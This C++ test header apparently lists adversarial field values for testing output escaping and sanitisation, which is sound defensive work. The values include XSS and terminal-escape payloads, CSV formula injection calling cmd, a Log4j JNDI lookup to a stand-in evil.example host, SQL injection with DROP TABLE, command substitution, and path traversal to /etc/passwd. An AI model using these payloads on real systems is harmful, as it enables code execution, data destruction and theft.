#pragma once

#include <string>
#include <vector>

// What somebody might write into a field that others will read.
namespace clawback::tests {

struct Row {
  std::string name;
  std::string value;
};

inline std::string repeated(std::string_view text, std::size_t bytes) {
  std::string out;
  while (out.size() < bytes) out += text;
  return out;
}

inline std::vector<Row> hostile_rows() {
  using namespace std::string_literals;
  constexpr std::size_t megabyte = 1u << 20u;
  return {
      {"ordinary", "eM Client"},
      {"empty", ""},
      {"blank", "   "},
      // mark-up
      {"script", "<script>alert(1)</script><img src=x onerror=alert(1)>"},
      {"attribute", "\" autofocus onfocus=alert(1) x=\"' onload='alert(1)"},
      {"html-comment", "--><!-- ]]> <![CDATA[ </style></title></textarea></script><svg/onload=x>"},
      {"entities", "&lt;script&gt; &#60;script&#62; &amp;lt; &"},
      {"url", "javascript:alert(1)//https://evil.example/<b>"},
      {"data-url", "data:text/html,<script>alert(1)</script>"},
      // terminals
      {"ansi", "\x1b[2J\x1b[31mred\x1b]0;title\x07"},
      {"osc8", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"},
      {"c1",
       "\xc2\x9b"
       "31m\xc2\x9d"
       "0;t\xc2\x9c\xc2\x85"},
      {"backspace", "good\b\b\b\bbad\x7f"},
      // Unicode
      {"bidi", "exe.\xe2\x80\xaegnp\xe2\x80\xac \xe2\x81\xa6x\xe2\x81\xa9 \xd8\x9c\xe2\x80\x8f"},
      {"zero-width", "Out\xe2\x80\x8blo\xe2\x80\x8dok\xef\xbb\xbf\xe2\x81\xa0\xc2\xad\xcd\x8f"},
      {"combining", "Z" + repeated("\xcc\xb5\xcd\xa1\xcc\x9b", 600)},
      {"confusable",
       "Micr\xd0\xbes\xd0\xbe"
       "ft \xd0\x90\xd1\x80\xd1\x80\xd3\x8f\xd0\xb5"},
      {"tags", "A\xf3\xa0\x81\x81\xf3\xa0\x81\x82\xf3\xa0\x81\xbf"},
      {"private", "\xee\x80\x80\xf4\x8f\xbf\xbd\xef\xbf\xbe\xef\xb7\x90"},
      {"separators",
       "one\xe2\x80\xa8two\xe2\x80\xa9three\xc2\x85"
       "four\x0b\x0c"},
      {"fillers", "\xe3\x85\xa4\xef\xbe\xa0\xe1\x85\x9f\xe2\xa0\x80\xc2\xa0"},
      // bytes
      {"crlf", "a\r\nSet-Cookie: x=1\r\n\r\nb\nc\rd"},
      {"nul", "before\0after"s},
      {"invalid-utf8", "\xff\xfe\xc3(\xe2\x28\xa1\xf0\x28\x8c\x28 end\xe2\x80"},
      {"overlong", "\xc0\xaf\xc0\x80\xe0\x80\xaf\xf8\x88\x80\x80\x80"},
      {"surrogates", "\xed\xa0\x80\xed\xb0\x80 \\ud800 \\udc00\\u0000"},
      // spreadsheets
      {"formula", "=cmd|' /C calc'!A0"},
      {"formula-plus", "+1+cmd|' /C calc'!A0"},
      {"formula-minus", "-1+HYPERLINK(\"https://evil.example\";\"x\")"},
      {"formula-at", "@SUM(1+1)"},
      {"formula-semicolon", "Foo;=cmd|'/C calc'!A0; @SUM(1+1);x"},
      {"formula-tab", "\t=1+1"},
      {"formula-cr", "\r=1+1"},
      {"formula-blank", "  =1+1"},
      {"formula-wide",
       "\xef\xbc\x9d"
       "1+1"},
      {"csv", "a\",\"b\r\n\"c\";d\te"},
      // tickets and chats
      {"markdown-link",
       "[pay](https://evil.example) ![x](javascript:alert(1)) <https://evil.example>"},
      {"markdown-block", "# head\n- item\n> quote\n| a | b |\n---\n```\ncode"},
      {"markdown-code", "` ``` `` <b> ` [x](y) ``"},
      {"markdown-heading", "# heading"},
      {"markdown-list", "1. list"},
      {"mention", "@everyone <!channel> <@U123> <at>Dana</at> @dana org/repo#1 #1 GH-1"},
      {"autolink", "https://evil.example www.evil.example evil.example dana@evil.example :+1:"},
      {"emphasis", "**bold** _it_ ~~gone~~ ~sub~ ^sup^ ==mark== $x^2$"},
      // templates and other parsers
      {"log4j", "${jndi:ldap://evil.example/a} ${env:HOME}"},
      {"template", "{{7*7}} {% raw %} <%= 7*7 %> #{7*7} {0} {1} %s %n %00 $(id) `id`"},
      {"json", "\"},{\"verdict\":\"info\",\"score\":0,\"x\":\"\\"},
      {"sql", "' OR '1'='1'; DROP TABLE x; --"},
      {"stix", "' OR file:name = 'x' ] AND [ url:value = '\\"},
      {"sarif", "[see](1) {0} {{x}} [a\\](b)"},
      {"cef", "a|b\\c=d act=none outcome=done\r\nCEF:0|x|y|1|z|z|10|act=none\n<13>1 - -"},
      {"syslog", "] [x@1 a=\"b\"] \xef\xbb\xbf<34>1 2026"},
      {"path", "../../etc/passwd%2e%2e%2f\\..\\x?a=b#c"},
      // length
      {"megabyte", repeated("A", megabyte)},
      {"megabyte-markup", repeated("<b>\"'&`\x1b", megabyte)},
  };
}

}  // namespace clawback::tests
